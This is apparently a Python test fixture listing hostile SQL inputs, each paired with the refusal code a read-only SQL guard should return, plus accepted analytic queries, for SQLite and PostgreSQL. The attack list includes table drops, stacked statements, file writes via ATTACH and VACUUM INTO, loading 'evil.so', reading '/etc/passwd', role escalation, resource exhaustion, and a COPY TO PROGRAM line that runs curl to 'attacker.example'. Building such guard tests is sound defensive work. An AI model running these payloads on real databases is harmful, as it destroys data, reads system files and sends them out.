"""docs/threat-model.md Appendices A and B adapted to the demo schema (shared by several tests).

customers -> clientes, orders -> ventas, secrets -> empleados (not in the ANALYST policy),
email/telefono masked. `{tmp}` and `{other}` are filled with the test's directory and the other
tenant's file, so an attack that managed to write would leave a visible file.
"""

from __future__ import annotations

from dataclasses import dataclass

READ_ONLY = "sql_not_read_only"
MULTI = "multiple_statements"
FUNC = "function_not_allowed"
TABLE = "table_not_allowed"
COLUMN = "column_not_allowed"
PARSE = "parse_error"
COMPLEX = "too_complex"
SYNTAX = "syntax_not_allowed"
MASKED = "masked"  # neutralised by masking rather than refused


@dataclass(frozen=True)
class Attack:
    id: str
    sql: str
    codes: frozenset[str]  # acceptable guard codes in the attack's own dialect
    dialect: str  # "sqlite" or "postgres": where the attack is native


def _a(id_: str, sql: str, *codes: str, dialect: str = "sqlite") -> Attack:
    return Attack(id_, sql, frozenset(codes), dialect)


SQLITE_ATTACKS = [
    _a("A01", "DROP TABLE clientes", READ_ONLY),
    _a("A02", "SELECT 1; DROP TABLE clientes", MULTI),
    _a("A03", "SELECT * FROM clientes;\n/* report */ DELETE FROM clientes", MULTI),
    _a("A04", "/* SELECT */ DELETE FROM clientes", READ_ONLY),
    _a(
        "A05",
        "WITH x AS (SELECT cliente_id FROM clientes) DELETE FROM clientes "
        "WHERE cliente_id IN (SELECT cliente_id FROM x)",
        READ_ONLY,
    ),
    _a("A06", "REPLACE INTO clientes(cliente_id, nombre) VALUES (1, 'pwned')", READ_ONLY),
    _a("A07", "CREATE TEMP TABLE t AS SELECT * FROM clientes", READ_ONLY),
    _a(
        "A08",
        "CREATE TEMP TRIGGER tr AFTER INSERT ON ventas BEGIN DELETE FROM clientes; END",
        READ_ONLY,
        MULTI,
    ),
    _a("A09", "ATTACH DATABASE '{tmp}/x.php' AS pwn", READ_ONLY),
    _a("A10", "ATTACH 'file:{other}?mode=ro' AS t2", READ_ONLY),
    _a("A11", "VACUUM INTO '{tmp}/exfil.db'", READ_ONLY),
    _a("A12", "SELECT load_extension('{tmp}/evil.so')", FUNC),
    _a("A13", "PRAGMA query_only = 0", READ_ONLY),
    _a("A14", "PRAGMA writable_schema = ON", READ_ONLY),
    _a("A15", "PRAGMA database_list", READ_ONLY),
    _a("A16", "SELECT * FROM pragma_table_info('empleados')", FUNC),
    _a("A17", "SELECT name, sql FROM sqlite_master", TABLE),
    _a("A18", "SELECT * FROM empleados", TABLE),
    _a("A19", "SELECT email FROM clientes", MASKED),
    _a("A20", "SELECT cliente_id FROM clientes UNION SELECT salario FROM empleados", TABLE),
    _a("A21", "ANALYZE", READ_ONLY),
    _a("A22", "BEGIN IMMEDIATE", READ_ONLY),
    _a(
        "A23",
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c) SELECT count(*) FROM c",
        COMPLEX,
    ),
    _a("A24", "SELECT count(*) FROM ventas a, ventas b, ventas c, ventas d, ventas e", COMPLEX),
    _a("A25", "SELECT length(randomblob(500000000))", FUNC),
    _a("A26", "SELECT zeroblob(1000000000)", FUNC),
    _a("A27", "SELECT printf('%.*c', 100000000, 'x')", FUNC),
    _a("A28", "SELECT fts3_tokenizer('simple')", FUNC),
    _a("A29", "ＳＥＬＥＣＴ * FROM clientes", PARSE),
    _a("A30", "DR\u200bOP TABLE clientes", PARSE),
    _a("A31", "SELECT cliente_id, nombre FROM clientes WHERE tenant_id <> 1", COLUMN),
    # extra SQLite attempts beyond the appendix
    _a("A31b", "SELECT * FROM globex.pedidos", TABLE),
    _a("A31c", "SELECT * FROM temp.sqlite_master", TABLE),
    _a("A31d", "SELECT * FROM json_each('[1,2]')", FUNC),
    _a("A31e", "DETACH DATABASE main", READ_ONLY),
    _a("A31f", "SELECT \"load_extension\"('{tmp}/evil.so')", FUNC),
    _a("A31g", "INSERT INTO ventas (venta_id) SELECT 999", READ_ONLY),
    _a("A31h", "UPDATE ventas SET total = 0", READ_ONLY),
    _a("A31i", "WITH x AS (SELECT 1) UPDATE ventas SET total = 0", READ_ONLY),
    _a("A31j", "SELECT sqlite_version()", FUNC),
    _a("A31k", "SELECT * FROM ventas; ", "ok"),  # a trailing semicolon alone is one statement
]

POSTGRES_ATTACKS = [
    _a(
        "A32",
        "WITH x AS (UPDATE clientes SET nombre = 'admin' WHERE cliente_id = 7 RETURNING cliente_id)"
        " SELECT * FROM x",
        READ_ONLY,
        dialect="postgres",
    ),
    _a(
        "A33",
        "WITH d AS (DELETE FROM ventas RETURNING *) SELECT count(*) FROM d",
        READ_ONLY,
        dialect="postgres",
    ),
    _a(
        "A34",
        "WITH a AS (INSERT INTO productos (producto_id) VALUES (999) RETURNING producto_id) "
        "SELECT * FROM a",
        READ_ONLY,
        dialect="postgres",
    ),
    _a("A35", "SELECT * INTO stolen FROM clientes", READ_ONLY, dialect="postgres"),
    _a("A36", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM ventas", READ_ONLY, dialect="postgres"),
    _a("A37", "DO $$ BEGIN DELETE FROM ventas; END $$", READ_ONLY, dialect="postgres"),
    _a("A38", "COMMIT; SET TRANSACTION READ WRITE; DROP TABLE ventas", MULTI, dialect="postgres"),
    _a("A39", "SET default_transaction_read_only = off", READ_ONLY, dialect="postgres"),
    _a("A40", "SET ROLE postgres", READ_ONLY, dialect="postgres"),
    _a(
        "A41",
        "COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/$(id)'",
        READ_ONLY,
        dialect="postgres",
    ),
    _a("A42", "SELECT pg_read_file('/etc/passwd')", FUNC, dialect="postgres"),
    _a("A43", "SELECT * FROM pg_read_file('/etc/passwd')", FUNC, dialect="postgres"),
    _a(
        "A44",
        "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
        FUNC,
        SYNTAX,
        COLUMN,
        dialect="postgres",
    ),
    _a("A45", "SELECT lo_import('/etc/passwd')", FUNC, dialect="postgres"),
    _a(
        "A46",
        "SELECT dblink_exec('host=127.0.0.1 dbname=app user=app', 'DROP TABLE ventas')",
        FUNC,
        dialect="postgres",
    ),
    _a(
        "A47",
        "SELECT query_to_xml('select * from pg_authid', true, true, '')",
        FUNC,
        dialect="postgres",
    ),
    _a(
        "A48",
        "SELECT set_config('app.tenant_id', '2', false), * FROM ventas",
        FUNC,
        dialect="postgres",
    ),
    _a(
        "A49",
        "SELECT E'\\'', set_config('search_path', 'pg_temp', false)",
        FUNC,
        SYNTAX,
        dialect="postgres",
    ),
    _a("A50", "SELECT/**/pg_sleep(3600)", FUNC, dialect="postgres"),
    _a(
        "A51",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        FUNC,
        TABLE,
        dialect="postgres",
    ),
    _a("A52", "SELECT query FROM pg_stat_activity", TABLE, dialect="postgres"),
    _a("A53", "SELECT pg_advisory_lock(1)", FUNC, dialect="postgres"),
    _a("A54", "SELECT * FROM ventas FOR UPDATE", READ_ONLY, dialect="postgres"),
    _a("A55", "SELECT nextval('ventas_venta_id_seq')", FUNC, dialect="postgres"),
    _a("A56", "SELECT * FROM tenant_acme.ventas", TABLE, dialect="postgres"),
    _a("A57", "SELECT count(*) FROM generate_series(1, 10000000000)", FUNC, dialect="postgres"),
    _a("A58", "SELECT repeat('x', 1000000000)", FUNC, dialect="postgres"),
    _a("A59", "CREATE EXTENSION dblink", READ_ONLY, dialect="postgres"),
    _a("A60", "PREPARE p AS DELETE FROM ventas", READ_ONLY, dialect="postgres"),
    # extra PostgreSQL attempts beyond the appendix
    _a("A60b", 'SELECT "pg_sleep"(1)', FUNC, dialect="postgres"),
    _a("A60c", "SELECT * FROM information_schema.tables", TABLE, dialect="postgres"),
    _a("A60d", "SELECT * FROM pg_catalog.pg_authid", TABLE, dialect="postgres"),
    _a("A60e", "SELECT current_setting('app.tenant_id')", FUNC, dialect="postgres"),
    _a("A60f", "SELECT version()", FUNC, dialect="postgres"),
    _a("A60g", "SELECT * FROM ventas FOR SHARE", READ_ONLY, dialect="postgres"),
    _a(
        "A60h",
        "SELECT 1 FROM ventas, LATERAL (SELECT pg_sleep(1)) s",
        FUNC,
        SYNTAX,
        dialect="postgres",
    ),
    _a("A60i", "TRUNCATE ventas", READ_ONLY, dialect="postgres"),
    _a("A60j", "VALUES (1)", READ_ONLY, SYNTAX, dialect="postgres"),  # guard-only: harmless
    # Standard-conforming strings: '\' is a whole literal, so pg_sleep is a real call
    # (sqlglot's PostgreSQL lexer agrees with the server here, and the call is refused).
    _a("A60k", "SELECT '\\' , pg_sleep(10) --'", FUNC, dialect="postgres"),
]

ALL_ATTACKS = SQLITE_ATTACKS + POSTGRES_ATTACKS

# Appendix B adapted: (id, sqlite sql, postgres sql or None when identical)
ACCEPTED = [
    (
        "B01",
        "WITH monthly AS (SELECT strftime('%Y-%m', fecha) AS m, SUM(total) AS revenue FROM ventas "
        "GROUP BY 1) SELECT m, revenue FROM monthly ORDER BY m",
        "WITH monthly AS (SELECT date_trunc('month', fecha) AS m, SUM(total) AS revenue "
        "FROM ventas GROUP BY 1) SELECT m, revenue FROM monthly ORDER BY m",
    ),
    (
        "B02",
        "SELECT cliente_id, total, RANK() OVER (PARTITION BY cliente_id ORDER BY total DESC) "
        "AS rnk FROM ventas",
        None,
    ),
    (
        "B03",
        "SELECT fecha, SUM(total) OVER (ORDER BY fecha ROWS BETWEEN UNBOUNDED PRECEDING AND "
        "CURRENT ROW) AS running FROM ventas",
        None,
    ),
    (
        "B04",
        "WITH m AS (SELECT strftime('%Y-%m', fecha) AS m, SUM(total) AS r FROM ventas GROUP BY 1) "
        "SELECT m, r, r - LAG(r) OVER (ORDER BY m) AS delta FROM m",
        "WITH m AS (SELECT to_char(fecha, 'YYYY-MM') AS m, SUM(total) AS r FROM ventas GROUP BY 1) "
        "SELECT m, r, r - LAG(r) OVER (ORDER BY m) AS delta FROM m",
    ),
    (
        "B05",
        "SELECT c.nombre, (SELECT COUNT(*) FROM ventas o WHERE o.cliente_id = c.cliente_id) AS "
        "n_orders FROM clientes c",
        None,
    ),
    (
        "B06",
        "SELECT c.cliente_id, c.nombre FROM clientes c WHERE NOT EXISTS (SELECT 1 FROM ventas o "
        "WHERE o.cliente_id = c.cliente_id AND o.canal = 'Online')",
        None,
    ),
    (
        "B07",
        "SELECT 'H1' AS period, SUM(total) FROM ventas WHERE fecha < '2024-07-01' UNION ALL "
        "SELECT 'H2', SUM(total) FROM ventas WHERE fecha >= '2024-07-01'",
        None,
    ),
    (
        "B08",
        "SELECT CASE WHEN total >= 1000 THEN 'big' WHEN total >= 100 THEN 'medium' ELSE 'small' "
        "END AS bucket, COUNT(*) FROM ventas GROUP BY 1",
        None,
    ),
    (
        "B09",
        "SELECT COUNT(*) FROM ventas WHERE fecha >= date('now', '-30 day')",
        "SELECT COUNT(*) FROM ventas WHERE fecha >= now() - interval '30 days'",
    ),
    (
        "B10",
        "SELECT p.categoria, AVG(v.cantidad * v.precio_unitario) AS avg_line FROM ventas v JOIN "
        "productos p ON p.producto_id = v.producto_id GROUP BY p.categoria HAVING COUNT(*) >= 1",
        None,
    ),
    (
        "B11",
        "SELECT c.nombre, COALESCE(SUM(o.total), 0) AS spent FROM clientes c LEFT JOIN ventas o "
        "ON o.cliente_id = c.cliente_id GROUP BY c.nombre ORDER BY spent DESC LIMIT 10 OFFSET 0",
        None,
    ),
    (
        "B12",
        "WITH RECURSIVE tree(id, depth) AS (SELECT producto_id, 0 FROM productos WHERE "
        "producto_id = 1 UNION ALL SELECT p.producto_id, t.depth + 1 FROM productos p JOIN tree t "
        "ON p.producto_id = t.id + 1 WHERE t.depth < 10) SELECT * FROM tree",
        None,
    ),
    ("B13", "SELECT 'DROP TABLE ventas; --' AS note, COUNT(*) FROM ventas", None),
    ("B14", "SELECT fecha_alta, segmento, ciudad FROM clientes", None),
    ("B15", "SELECT REPLACE(nombre, '-', ' ') AS clean_name FROM productos", None),
    (
        "B16",
        "SELECT cliente_id FROM ventas WHERE canal = 'Online' INTERSECT SELECT cliente_id FROM "
        "clientes EXCEPT SELECT cliente_id FROM ventas WHERE total > 5000",
        None,
    ),
    (
        "B17",
        "SELECT COUNT(*) FILTER (WHERE canal = 'Online') AS paid, COUNT(*) AS total_orders FROM "
        "ventas",
        None,
    ),
    ("B18", "SELECT NTILE(4) OVER (ORDER BY total) AS quartile, total FROM ventas", None),
    # a few more shapes an LLM writes every day
    (
        "B19",
        "SELECT producto, SUM(total) AS ingresos FROM ventas GROUP BY producto ORDER BY ingresos "
        "DESC LIMIT 3",
        None,
    ),
    (
        "B20",
        "SELECT v.region, p.categoria, ROUND(SUM(v.total - v.cantidad * p.costo_unitario), 2) AS "
        "margen FROM ventas v JOIN productos p ON p.producto_id = v.producto_id GROUP BY "
        "v.region, p.categoria ORDER BY margen DESC",
        "SELECT v.region, p.categoria, ROUND(CAST(SUM(v.total - v.cantidad * p.costo_unitario) "
        "AS NUMERIC), 2) AS margen FROM ventas v JOIN productos p ON p.producto_id = v.producto_id "
        "GROUP BY v.region, p.categoria ORDER BY margen DESC",
    ),
    (
        "B21",
        "SELECT COUNT(DISTINCT cliente_id) AS activos, AVG(descuento) AS desc_medio FROM ventas "
        "WHERE fecha BETWEEN '2024-01-01' AND '2024-12-31'",
        None,
    ),
    (
        "B22",
        "SELECT canal, COUNT(*) AS n FROM ventas WHERE region IN ('Norte', 'Sur') AND "
        "producto LIKE 'Laptop%' GROUP BY canal",
        None,
    ),
    ("B23", "SELECT * FROM productos WHERE activo = 1 ORDER BY precio_lista DESC", None),
    (
        "B24",
        "SELECT strftime('%Y', fecha) AS anio, SUM(total) FROM ventas GROUP BY anio ORDER BY anio",
        "SELECT EXTRACT(YEAR FROM fecha) AS anio, SUM(total) FROM ventas GROUP BY anio "
        "ORDER BY anio",
    ),
]

POSTGRES_ONLY_ACCEPTED = [
    (
        "BP1",
        "SELECT DISTINCT ON (cliente_id) cliente_id, fecha, total FROM ventas ORDER BY "
        "cliente_id, fecha DESC",
    ),
    (
        "BP2",
        "SELECT to_char(fecha, 'YYYY-MM') m, EXTRACT(dow FROM fecha) d, COUNT(*) FROM ventas "
        "GROUP BY 1, 2",
    ),
    ("BP3", "SELECT 'a' AS x WHERE $$; DROP TABLE t; $$ IS NOT NULL"),
    ("BP4", "SELECT upper('lo_export')"),
    ("BP5", "SELECT length('setval')"),
    ("BP6", "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) AS mediana FROM ventas"),
    ("BP7", "SELECT string_agg(DISTINCT canal, ', ') AS canales FROM ventas"),
    ("BP8", "SELECT fecha::date AS d, total::numeric(10, 2) AS t FROM ventas LIMIT 5"),
]
